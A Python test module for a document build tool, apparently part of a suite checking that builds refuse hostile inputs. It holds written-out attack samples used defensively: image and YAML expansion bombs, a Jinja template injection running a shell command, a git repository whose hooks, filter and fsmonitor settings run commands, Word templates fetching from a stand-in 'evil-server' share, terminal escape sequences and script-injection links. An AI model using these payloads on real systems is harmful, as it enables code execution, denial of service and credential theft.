"""Inputs that cost far more than their size, pictures the build cannot place, templates and
repositories that would make the tool fetch or run something, and what the published
outputs must not say.

Every case that must be refused is given to `idmbook build` on a project with a previous good
build, so that the case shows both that validation names the file and line and that the build
stops before any tool meets the input (the harness checks that nothing is written and that
the case stays within a budget proportional to its input: a picture claiming 100,000 x
100,000 pixels, or words joined by no-break spaces, would blow it).
"""

from __future__ import annotations

import base64
import io
import os
import shutil
import subprocess
import zipfile
import zlib
from collections.abc import Callable

from hostile.cases_validate import E, X, contribution
from hostile.harness import BUILD_ARGS, Box, Case, Expect

P = f"project/{X}"
MEDIA = "project/contributions/media"


def chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png(width: int, height: int, raw: bytes | None = None, crc_ok: bool = True) -> bytes:
    """A PNG (8-bit RGB) of ``width`` x ``height``; its picture data ``raw`` (filtered rows),
    by default rows of zeros of the right size."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    if raw is None:
        raw = bytes(height * (1 + 3 * width))
    data = zlib.compress(raw, 9)
    idat = chunk(b"IDAT", data)
    if not crc_ok:
        idat = idat[:-4] + bytes(4)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + idat + chunk(b"IEND", b"")


def noise_png(width: int, height: int, seed: int) -> bytes:
    """A PNG that does not compress (a photograph's worth of bytes per pixel)."""
    import random

    generator = random.Random(seed)
    rows = b"".join(b"\x00" + generator.randbytes(3 * width) for _ in range(height))
    return png(width, height, rows)


def gif(screen: tuple[int, int], frame: tuple[int, int]) -> bytes:
    """A GIF whose only frame is ``frame`` pixels on a logical screen of ``screen``."""
    sw, sh = screen
    fw, fh = frame
    head = b"GIF89a" + sw.to_bytes(2, "little") + sh.to_bytes(2, "little") + b"\x80\x00\x00"
    head += b"\x00\x00\x00\xff\xff\xff"  # a global colour table of two colours
    descriptor = b"\x2c" + bytes(4) + fw.to_bytes(2, "little") + fh.to_bytes(2, "little") + b"\0"
    return head + descriptor + b"\x02\x02\x4c\x01\x00" + b"\x3b"


def jpeg_with_scans(scans: int) -> bytes:
    """A tiny JPEG's structure with ``scans`` scans (a progressive JPEG makes a decoder go
    over the whole picture once for each)."""
    frame = b"\xff\xc2" + (11).to_bytes(2, "big") + b"\x08" + (8).to_bytes(2, "big") * 2
    frame += b"\x01\x01\x11\x00"
    scan = b"\xff\xda" + (8).to_bytes(2, "big") + b"\x01\x01\x00\x00\x3f\x00" + b"\x00" * 4
    return b"\xff\xd8" + frame + scan * scans + b"\xff\xd9"


SVG_HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="40" height="40" viewBox="0 0 40 40">'
)


def svg_embedding(picture: bytes, mime: str = "image/png") -> str:
    data = base64.b64encode(picture).decode()
    return f'{SVG_HEAD}<image href="data:{mime};base64,{data}" width="40" height="40"/></svg>'


def svg_use_bomb(levels: int = 10, fan: int = 10) -> str:
    parts = [SVG_HEAD, '<defs><g id="g0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use xlink:href="#g{level - 1}"/>' for _ in range(fan))
        parts.append(f'<g id="g{level}">{uses}</g>')
    parts.append(f'</defs><use xlink:href="#g{levels}"/></svg>')
    return "".join(parts)


def _later(files: dict[str, Callable[[], bytes | str]]) -> Callable[[Box], None]:
    """A setup that makes the files when the case runs (not when every case is loaded)."""

    def setup(box: Box) -> None:
        for rel, make in files.items():
            box.write(rel, make())

    return setup


def _picture_case(
    name: str, what: str, data: Callable[[], bytes | str], suffix: str = "png"
) -> Case:
    return Case(
        f"res-{name}",
        "build",
        what,
        E(1, ("IDM053", X, 13)),
        {P: contribution(body=f"![A picture](media/p.{suffix})")},
        setup=_later({f"{MEDIA}/p.{suffix}": data}),
        base="built",
    )


PICTURES = [
    _picture_case(
        "svg-data-png-bomb",
        "an SVG embedding a data: PNG that claims 100,000 x 100,000 pixels (Typst aborted the "
        "whole process: SIGABRT, a Rust backtrace, its folder left behind)",
        lambda: svg_embedding(png(100_000, 100_000, raw=b"\x00" * 64)),
        "svg",
    ),
    _picture_case(
        "svg-data-svg-data-png",
        "an SVG embedding an SVG embedding an SVG embedding a PNG",
        lambda: svg_embedding(
            svg_embedding(svg_embedding(png(2, 2)).encode()).encode(), "image/svg+xml"
        ),
        "svg",
    ),
    _picture_case(
        "svg-use-bomb",
        "an SVG whose <use> elements repeat a rectangle ten billion times",
        lambda: svg_use_bomb(),
        "svg",
    ),
    _picture_case(
        "svg-use-cycle",
        "an SVG whose <use> elements refer to each other",
        lambda: f'{SVG_HEAD}<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>',
        "svg",
    ),
    _picture_case(
        "svg-style-url",
        "an SVG whose style fetches {tripwire}",
        lambda: (
            f'{SVG_HEAD}<rect width="9" height="9" '
            'style="fill:url({tripwire}/fill.svg#p)"/></svg>'
        ),
        "svg",
    ),
    _picture_case(
        "gif-frame-larger-than-screen",
        "a GIF whose frame is 30,000 x 30,000 pixels on a 1 x 1 logical screen (its decoder "
        "asks for the frame: 2.7 GB)",
        lambda: gif((1, 1), (30_000, 30_000)),
        "gif",
    ),
    _picture_case(
        "png-wrong-checksum",
        "a PNG with a wrong checksum (Typst refuses to decode it and stops the book)",
        lambda: png(4, 4, crc_ok=False),
    ),
    _picture_case(
        "png-short-data",
        "a PNG of 4,000 x 4,000 pixels whose data holds one row",
        lambda: png(4000, 4000, raw=bytes(1 + 3 * 4000)),
    ),
    _picture_case(
        "png-data-bomb",
        "a PNG of 10 x 10 pixels whose compressed data inflates to 50 MB",
        lambda: png(10, 10, raw=bytes(50 * 1024 * 1024)),
    ),
    _picture_case(
        "jpeg-scan-bomb",
        "a progressive JPEG with 5,000 scans",
        lambda: jpeg_with_scans(5000),
        "jpg",
    ),
]


def _pictures(count: int, size: int, noise: bool = False) -> Callable[[Box], None]:
    def setup(box: Box) -> None:
        for number in range(count):
            picture = noise_png(size, size, number) if noise else png(size, size)
            box.write(f"{MEDIA}/p{number}.png", picture)

    return setup


def _body(count: int, shows: int) -> str:
    return "\n\n".join(
        f"![Picture {n}](media/p{n}.png)" for n in range(count) for _ in range(shows)
    )


BUDGET = [
    Case(
        "res-pictures-together",
        "build",
        "six pictures of 5,000 x 5,000 pixels, each within its limit, 150 million together "
        "(48 such pictures took Typst 8.6 GB)",
        E(1, ("IDM067", X, 21)),
        {P: contribution(body=_body(6, 1))},
        setup=_pictures(6, 5000),
        base="built",
    ),
    Case(
        "res-picture-shown-often",
        "build",
        "one picture shown 101 times (shown 10,000 times it made the DOCX build 80 times slower)",
        E(1, ("IDM067", X, 213)),
        {P: contribution(body=_body(1, 101))},
        setup=_pictures(1, 8),
        base="built",
    ),
    Case(
        "res-pictures-copied",
        "build",
        "three 1 MB pictures shown 70 times each: more than 200 MB copied into Word's file "
        "and the HTML",
        E(1, ("IDM067", X, None)),
        {P: contribution(body=_body(3, 70))},
        setup=_pictures(3, 600, noise=True),
        base="built",
        timeout=120,
    ),
    Case(
        "res-pictures-within-budget",
        "build",
        "three small pictures shown five times each: the book is built",
        E(0),
        {P: contribution(body=_body(3, 5))},
        setup=_pictures(3, 64),
        base="built",
    ),
]


def _grid(depth: int) -> str:
    lines = ["x"]
    for _ in range(depth):
        width = max(len(line) for line in lines)
        border = "+" + "-" * width + "+"
        lines = [border, *("|" + line.ljust(width) + "|" for line in lines), border]
    return "\n".join(lines)


COST = [
    Case(
        "res-nbsp-words",
        "build",
        "120,000 words joined by no-break spaces, 0.6 MB (pandoc's Typst writer took 265 s: "
        "quadratic)",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body="\u00a0".join(["word"] * 120_000))},
        base="built",
    ),
    Case(
        "res-escaped-space-words",
        "build",
        "20,000 words joined by pandoc's backslash-space (a no-break space)",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body="\\ ".join(["word"] * 20_000))},
        base="built",
    ),
    Case(
        "res-narrow-nbsp-words",
        "build",
        "words joined by narrow no-break spaces and figure spaces",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body="\u202f".join(["word"] * 800) + "\u2007".join(["w"] * 2000))},
        base="built",
    ),
    Case(
        "res-emphasis-paragraph",
        "build",
        "450 KB of emphasised runs in one paragraph (Typst took 80-100 s and 4.4 GB)",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body=" ".join(["*a*"] * 112_000))},
        base="built",
    ),
    Case(
        "res-links-paragraph",
        "build",
        "2,000 links in one paragraph",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body=" ".join(["[a](https://example.org)"] * 2000))},
        base="built",
    ),
    Case(
        "res-emphasis-paragraphs",
        "build",
        "40,000 emphasised runs in 200 paragraphs of 200: legitimate, built within budget",
        E(0),
        {P: contribution(body="\n\n".join(" ".join(["*word*"] * 200) for _ in range(200)))},
        base="built",
        timeout=120,
    ),
    Case(
        "res-grid-tables-nested",
        "build",
        "grid tables nested 12 deep in 1 KB (Typst: maximum show rule depth exceeded)",
        E(1, ("IDM004", X, 21)),
        {P: contribution(body=_grid(12))},
        base="built",
    ),
    Case(
        "res-lists-40-deep",
        "build",
        "a list nested 40 levels (validate passed it, Typst stopped the build)",
        E(1, ("IDM004", X, 37)),
        {P: contribution(body="".join("  " * i + "- x\n" for i in range(40)))},
        base="built",
    ),
    Case(
        "res-quotes-and-lists",
        "build",
        "'> - ' 16 times on one line (32 containers: validate passed it, Typst stopped)",
        E(1, ("IDM004", X, 13)),
        {P: contribution(body="> - " * 16 + "deep")},
        base="built",
    ),
    Case(
        "res-definitions-nested",
        "build",
        "definitions nested 14 deep",
        E(1, ("IDM004", X, None)),
        {
            P: contribution(
                body="".join(f"{'    ' * i}Term\n{'    ' * i}:   x\n\n" for i in range(14))
            )
        },
        base="built",
    ),
    Case(
        "res-deepest-accepted",
        "build",
        "lists 24 deep, grid tables 8 deep, quotes 24 deep: the deepest validation accepts "
        "is built",
        E(0),
        {
            P: contribution(
                body="".join("  " * i + "- x\n" for i in range(24))
                + "\n\n"
                + _grid(8)
                + "\n\n"
                + "> " * 24
                + "deep"
            )
        },
        base="built",
    ),
]


def _many_files(box: Box) -> None:
    folder = box.project / "contributions" / "attachments"
    folder.mkdir(parents=True)
    for number in range(5000):
        (folder / f"scan-{number:05}.pdf").write_bytes(b"%PDF-1.4\n")


def _deep_folders(box: Box) -> None:
    folder = box.project / "contributions"
    for _ in range(150):
        folder = folder / "d"
    folder.mkdir(parents=True)
    (folder / "deep.md").write_text(contribution(organisation="Deep Org"), "utf-8")


PROJECT = [
    Case(
        "res-many-files",
        "validate",
        "5,000 files that are not Markdown in contributions/attachments/",
        E(0, ("IDM065", "contributions/attachments/scan-04999.pdf", None)),
        setup=_many_files,
        timeout=120,
    ),
    Case(
        "res-deep-folders",
        "validate",
        "a contribution 150 folders deep",
        E(0),
        setup=_deep_folders,
    ),
    Case(
        "res-terminal-escapes-in-name",
        "validate",
        "a file name with terminal escape sequences (a window title, a clipboard write): the "
        "human report must not pass them to the terminal",
        E(0, ("IDM063", "contributions/\x1b]52;c;cHduZWQ=\x07x\x1b[2J.md", None)),
        {
            "project/contributions/\x1b]52;c;cHduZWQ=\x07x\x1b[2J.md": contribution(
                organisation="Escape Org"
            )
        },
        args=("validate", "--format", "json"),
    ),
    Case(
        "res-terminal-escapes-in-text",
        "validate",
        "a submission whose line with a warning holds a terminal escape sequence (a window "
        "title, the clipboard): the human report shows the line without acting on it",
        E(0),
        {P: contribution(body="A <b>bold</b> \x1b]0;pwned\x07 \x1b]52;c;cHduZWQ=\x07 claim.")},
        args=("validate",),
    ),
    Case(
        "res-terminal-escapes-human",
        "validate",
        "the same file name, the human report on the terminal",
        E(0),
        {
            "project/contributions/\x1b]52;c;cHduZWQ=\x07x\x1b[2J.md": contribution(
                organisation="Escape Org"
            )
        },
        args=("validate",),
    ),
]


# ------------------------------------------------------------------------ templates


def _copy_templates(box: Box) -> None:
    from idmbook.load.defaults import default_templates

    shutil.copytree(default_templates(), box.project / "templates")


def _reference_with(box: Box, part: str, edit: str, rels: str | None = None) -> None:
    """templates/reference.docx with ``edit`` appended into ``part`` (before its last
    closing tag) and, when given, ``rels`` into that part's relationships."""
    _copy_templates(box)
    path = box.project / "templates" / "reference.docx"
    members: dict[str, bytes] = {}
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            members[name] = zf.read(name)
    text = members[part].decode("utf-8")
    close = text.rindex("</")
    members[part] = (text[:close] + edit + text[close:]).encode("utf-8")
    if rels is not None:
        rels_name = part.rsplit("/", 1)[0] + "/_rels/" + part.rsplit("/", 1)[1] + ".rels"
        old = members.get(
            rels_name,
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"></Relationships>',
        ).decode("utf-8")
        members[rels_name] = old.replace("</Relationships>", rels + "</Relationships>").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    path.write_bytes(buffer.getvalue())


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REF = "templates/reference.docx"


def _typst_template(box: Box, line: str) -> None:
    _copy_templates(box)
    path = box.project / "templates" / "idm.typ"
    path.write_text(line + "\n" + path.read_text("utf-8"), "utf-8")


def _jinja_template(box: Box) -> None:
    _copy_templates(box)
    path = box.project / "templates" / "book" / "imprint.md.j2"
    pwned = box.outside / "pwned-jinja"
    path.write_text(
        path.read_text("utf-8")
        + "\n{{ cycler.__init__.__globals__.os.popen('touch "
        + str(pwned)
        + "').read() }}\n",
        "utf-8",
    )


def _labels_with(box: Box, text: str) -> None:
    _copy_templates(box)
    path = box.project / "templates" / "book" / "labels.yaml"
    path.write_text(path.read_text("utf-8") + text, "utf-8")


def _labels_line(text: str) -> int:
    from idmbook.load.defaults import default_templates

    labels = (default_templates() / "book" / "labels.yaml").read_text("utf-8")
    return labels.count("\n") + 1 + text[: text.index("&")].count("\n")


LAUGHS_LABELS = (
    "\nlol_a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    "lol_b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    "lol_c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
)

TEMPLATES = [
    Case(
        "res-labels-aliases",
        "build",
        "templates/book/labels.yaml with anchors and aliases that expand 729 times (it was "
        "read by a parser without the front matter's limits)",
        E(1, ("IDM009", "templates/book/labels.yaml", _labels_line(LAUGHS_LABELS))),
        setup=lambda box: _labels_with(box, LAUGHS_LABELS),
        base="built",
    ),
    Case(
        "res-labels-duplicate-key",
        "build",
        "templates/book/labels.yaml giving 'contents' twice (an internal error before)",
        E(1, ("IDM007", "templates/book/labels.yaml", None)),
        setup=lambda box: _labels_with(box, "\ncontents: Sommaire\n"),
        base="built",
    ),
    Case(
        "res-reference-external-picture",
        "build",
        "reference.docx's header shows a picture linked from {tripwire} (Word would fetch it "
        "from every reader's machine)",
        E(1, ("IDM066", REF, None)),
        setup=lambda box: _reference_with(
            box,
            "word/header1.xml",
            "",
            f'<Relationship Id="rIdEvil" Type="{REL}/image" Target="{box.tripwire}/logo.png" '
            'TargetMode="External"/>',
        ),
        base="built",
    ),
    Case(
        "res-reference-attached-template",
        "build",
        "reference.docx attaches a template on a network share (a known way to make Word "
        "send the reader's credentials)",
        E(1, ("IDM066", REF, None)),
        setup=lambda box: _reference_with(
            box,
            "word/settings.xml",
            '<w:attachedTemplate r:id="rIdT"/>',
            f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
            'Target="file://evil-server/share/t.dotm" TargetMode="External"/>',
        ),
        base="built",
    ),
    Case(
        "res-reference-include-field",
        "build",
        "reference.docx's footer has an INCLUDEPICTURE field fetching {tripwire}",
        E(1, ("IDM066", REF, None)),
        setup=lambda box: _reference_with(
            box,
            "word/footer1.xml",
            '<w:p><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "'
            + box.tripwire
            + '/x.png" \\d </w:instrText></w:r></w:p>',
        ),
        base="built",
    ),
    Case(
        "res-typst-package",
        "build",
        "idm.typ imports a Typst package (Typst downloads it from packages.typst.org)",
        E(1, ("IDM066", "templates/idm.typ", None)),
        setup=lambda box: _typst_template(box, '#import "@preview/cetz:0.3.1": canvas'),
        base="built",
    ),
    Case(
        "res-jinja-code",
        "build",
        "a book template that reaches Python's os module and runs a command",
        E(2, message="imprint.md.j2", absent=("outside/pwned-jinja",)),
        setup=_jinja_template,
        base="built",
    ),
]


# ------------------------------------------------------------------------ privacy


SECRET_ORG = "Confidential Donor Consortium"


def _git(box: Box, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=Editor", "-c", "user.email=editor@example.org", *args],
        cwd=box.project,
        check=True,
        capture_output=True,
    )


def _hostile_repository(box: Box) -> None:
    """The project is a repository whose own settings name programs: a file-system monitor,
    a clean filter (for every file, through .gitattributes), a hook on index changes, a pager,
    an external diff. A tracked file is changed, so that `git status` has work to do."""
    mark = box.outside
    _git(box, "init", "-q")
    (box.project / ".gitattributes").write_text("* filter=evil\n")
    _git(box, "add", "-A")
    _git(box, "commit", "-q", "-m", "sources")
    settings = {
        "core.fsmonitor": f"touch {mark}/pwned-fsmonitor; false",
        "filter.evil.clean": f"touch {mark}/pwned-filter; cat",
        "filter.evil.smudge": "cat",
        "core.pager": f"touch {mark}/pwned-pager; cat",
        "diff.external": f"touch {mark}/pwned-diff",
        "core.sshCommand": f"touch {mark}/pwned-ssh",
    }
    for key, value in settings.items():
        _git(box, "config", key, value)
    hooks = box.project / ".git" / "hooks"
    for hook in ("post-index-change", "post-checkout", "pre-commit"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {mark}/pwned-hook-{hook}\n")
        os.chmod(hooks / hook, 0o755)
    note = box.project / "chapters" / "notes" / "new-york" / "opening.md"
    note.write_text(note.read_text("utf-8").replace("opened", "began"), "utf-8")


PRIVACY = [
    Case(
        "res-withheld-not-in-manifest",
        "build",
        "a contribution without consent: left out of the book, and of the published manifest "
        "(its file name is the organisation's)",
        E(
            0,
            ("IDM043", "contributions/confidential-donor-consortium.md", None),
            forbidden=("confidential-donor-consortium", SECRET_ORG),
        ),
        {
            "project/contributions/confidential-donor-consortium.md": contribution(
                organisation=SECRET_ORG, consent="false"
            )
        },
        base="built",
    ),
    Case(
        "res-git-runs-nothing",
        "build",
        "a received repository whose settings run commands from `git status` (fsmonitor, a "
        "clean filter, a hook, a pager, an external diff): the build runs none",
        Expect(
            0,
            absent=tuple(
                f"outside/pwned-{name}"
                for name in (
                    "fsmonitor",
                    "filter",
                    "pager",
                    "diff",
                    "ssh",
                    "hook-post-index-change",
                    "hook-post-checkout",
                    "hook-pre-commit",
                )
            ),
        ),
        setup=_hostile_repository,
        args=(*BUILD_ARGS, "--draft"),
    ),
]

HTML = [
    Case(
        "res-html-event-attributes",
        "build",
        "event handler attributes on a span, a link, a heading and a div (onclick, "
        "onmouseover, onfocus with autofocus): no script may run in the HTML, nothing active "
        "be left in it (the sanitiser's attribute allow-list drops them)",
        E(0, literal=("Click here",)),
        {
            P: contribution(
                body='[Click here]{onclick="document.title=1" autofocus onfocus="alert(1)"}\n\n'
                '[A link](https://iom.int){onmouseover="alert(2)"}\n\n'
                '### Heading {onpointerenter="alert(3)"}\n\n'
                '::: {onload="alert(4)" tabindex=1 autofocus onfocusin="alert(5)"}\nIn a div.\n:::'
            )
        },
        base="built",
    ),
    Case(
        "res-html-style-fetch",
        "build",
        "a style attribute whose url() names {tripwire} (pandoc's HTML writer with "
        "--embed-resources, or the browser, would fetch it)",
        E(0, literal=("Styled text",)),
        {
            P: contribution(
                body='[Styled text]{style="background:url({tripwire}/bg.png)"}\n\n'
                '::: {style="background-image:url({tripwire}/div.png)"}\nA styled div.\n:::'
            )
        },
        base="built",
    ),
    Case(
        "res-html-link-schemes",
        "build",
        "links with javascript:, vbscript:, data: and file: targets written in odd cases and "
        "with entities",
        E(0, literal=("OddCase", "Entity", "Vb")),
        {
            P: contribution(
                body="[OddCase](JaVaScRiPt:alert(1)) [Entity](java&#115;cript:alert(2)) "
                "[Vb](vbscript:msgbox) [Data](DATA:text/html;base64,PHNjcmlwdD4=)"
            )
        },
        base="built",
    ),
]

CASES = PICTURES + BUDGET + COST + PROJECT + TEMPLATES + PRIVACY + HTML
